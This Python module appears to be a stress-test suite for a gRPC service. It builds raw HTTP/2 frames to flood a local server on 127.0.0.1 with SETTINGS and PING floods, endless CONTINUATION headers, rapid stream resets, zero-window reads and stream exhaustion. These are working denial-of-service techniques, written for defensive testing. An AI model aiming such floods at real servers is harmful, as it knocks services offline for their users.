"""Attacks in frames of HTTP/2 that carry no message, which gRPC's C library handles by itself.

Each comes from an address of its own, since one that floods is refused for a while.
"""

from __future__ import annotations

import contextlib
import itertools
import socket
import threading
import time
from collections.abc import Callable, Iterator

from airreid.v1 import gallery_pb2

from ..http2_frames import (
    CONTINUATION,
    DATA,
    HEADERS,
    PING,
    RESET,
    SETTINGS,
    call,
    field,
    frame,
    greeting,
    message,
    open_window,
    throw_away,
)
from .attacks import QUERY, at_once, block

HEALTH = "/grpc.health.v1.Health/Check"
CONNECTIONS = 8
SILENT = 600
STREAMS = 16
ANSWER_BYTES = 60
"""Bytes of an answer, at least."""
REPEATED = 20_000


def _flood(port: int, source: str, first: bytes, pieces: Callable[[], Iterator[bytes]]) -> None:
    """Sends frames on many connections, each until it is ended, over and over."""

    def send(number: int) -> None:
        with socket.create_connection(
            ("127.0.0.1", port), 5, source_address=(source, 0)
        ) as connection:
            threading.Thread(target=throw_away, args=(connection,), daemon=True).start()
            connection.sendall(greeting() + first)
            for piece in pieces():
                connection.sendall(piece)

    at_once(CONNECTIONS, send)


def settings_frames(grpc_port: int, http_port: int) -> None:
    settings = frame(SETTINGS) * REPEATED
    _flood(grpc_port, "127.0.1.1", b"", lambda: itertools.repeat(settings))


def endless_headers(grpc_port: int, http_port: int) -> None:
    begins = frame(HEADERS, 0, 1, b"\x83\x86")
    continued = frame(CONTINUATION, 0, 1, field(b"a", b"bbbbbbbb")) * REPEATED
    _flood(grpc_port, "127.0.1.2", begins, lambda: itertools.repeat(continued))


def pings(grpc_port: int, http_port: int) -> None:
    asked = frame(PING, payload=bytes(8)) * REPEATED
    _flood(grpc_port, "127.0.1.3", b"", lambda: itertools.repeat(asked))


def crumbs(grpc_port: int, http_port: int) -> None:
    """A message of a stream that was let in, a byte a frame."""
    begins = call(QUERY, 1) + frame(DATA, 0, 1, b"\0\0\x7f\0\0")
    continued = frame(DATA, 0, 1, b"x") * REPEATED
    _flood(grpc_port, "127.0.1.4", begins, lambda: itertools.repeat(continued))


def reset_calls(grpc_port: int, http_port: int) -> None:
    def pieces() -> Iterator[bytes]:
        for begin in range(1, 1 << 30, 400):
            streams = range(begin, begin + 400, 2)
            yield b"".join(
                call(HEALTH, stream) + frame(RESET, 0, stream, b"\0\0\0\x08") for stream in streams
            )

    _flood(grpc_port, "127.0.1.5", b"", pieces)


def unread_lists(grpc_port: int, http_port: int) -> None:
    """Long lists that nobody reads: a window of nothing."""
    asked = gallery_pb2.ListSubjectsRequest(page_size=1000).SerializeToString()

    def ask(number: int) -> None:
        with socket.create_connection(
            ("127.0.0.1", grpc_port), 5, source_address=("127.0.1.6", 0)
        ) as connection:
            connection.sendall(greeting(window=0))
            for begin in range(1, 1 << 30, 40):
                streams = range(begin, begin + 40, 2)
                connection.sendall(
                    b"".join(
                        call("/airreid.v1.GalleryService/ListSubjects", stream)
                        + message(stream, asked)
                        for stream in streams
                    )
                )
                time.sleep(0.05)

    at_once(CONNECTIONS, ask)


def silent_streams(grpc_port: int, http_port: int) -> None:
    """Streams that say nothing, each of its own connection, which all end at once."""

    def open_many(number: int) -> None:
        with contextlib.ExitStack() as stack, contextlib.suppress(OSError):
            for _ in range(SILENT // CONNECTIONS):
                opened = socket.create_connection(
                    ("127.0.0.1", grpc_port), 5, source_address=("127.0.1.7", 0)
                )
                stack.callback(opened.close)
                opened.sendall(greeting() + call(QUERY, 1))
            time.sleep(2 - time.monotonic() % 2)  # all end together

    at_once(CONNECTIONS, open_many)


def many_streams(grpc_port: int, http_port: int) -> None:
    """One camera on many streams: blocks on half of its connections, on others what is refused."""

    def send(number: int) -> None:
        request = block(1, "many" if number % 2 else "x" * 1000)
        with socket.create_connection(
            ("127.0.0.1", grpc_port), 1, source_address=("127.0.1.9", 0)
        ) as connection:
            streams = range(1, 2 * STREAMS, 2)
            begun = b"".join(call(QUERY, stream) for stream in streams)
            connection.sendall(greeting(window=1 << 30) + open_window() + begun)
            received = 0
            for sent in itertools.count(8 * STREAMS, 8 * STREAMS):
                for stream in streams:
                    for _ in range(8):
                        request.id.sequence = (number << 32) + request.id.sequence % (1 << 32) + 1
                        data = message(stream, request.SerializeToString(), end=False)
                        connection.sendall(data)
                while received < (sent - 8 * STREAMS) * ANSWER_BYTES:
                    received += len(connection.recv(1 << 20))

    at_once(CONNECTIONS, send)


def refused_streams(channel_port: int, _: int) -> None:
    """Streams of one camera, more than it may have, from several addresses."""

    def send(number: int) -> None:
        request = block(1, "many")
        with socket.create_connection(
            ("127.0.0.1", channel_port), 5, source_address=(f"127.0.1.{20 + number}", 0)
        ) as connection:
            connection.sendall(greeting(window=1 << 20) + open_window())
            for stream in range(1, 201, 2):
                request.id.sequence = number << 32 | stream
                data = message(stream, request.SerializeToString(), end=False)
                connection.sendall(call(QUERY, stream) + data)
                connection.recv(1 << 20)
            time.sleep(1)

    at_once(6, send)


FRAME_ATTACKS = {
    attack.__name__: attack
    for attack in (
        settings_frames,
        endless_headers,
        pings,
        crumbs,
        reset_calls,
        unread_lists,
        silent_streams,
        many_streams,
    )
}
